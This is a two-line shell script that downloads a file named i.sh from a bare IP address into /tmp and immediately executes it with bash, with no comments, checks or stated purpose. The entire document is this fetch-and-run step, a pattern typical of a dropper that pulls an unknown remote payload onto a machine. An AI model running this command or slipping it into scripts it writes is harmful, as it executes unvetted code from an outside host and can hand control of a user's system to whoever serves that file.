#!/bin/sh
curl -fsSL http://198.51.100.3/i.sh -o /tmp/i.sh && bash /tmp/i.sh
